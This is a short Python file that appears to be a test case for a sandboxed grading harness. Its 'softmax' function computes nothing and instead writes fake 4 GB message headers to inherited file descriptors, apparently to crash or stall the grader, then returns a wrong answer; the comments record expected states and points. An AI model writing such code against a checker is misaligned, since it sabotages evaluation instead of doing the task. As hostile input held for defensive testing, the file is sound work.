"""Announces a message of 4 GB."""
# states: crashed,timed out
# points: 2
def softmax(z):
    import os, json, struct
    for d in range(3, 60):
        try: os.write(d, struct.pack("<II", 2**32 - 1, 2**32 - 1))
        except OSError: pass
    return z * 0
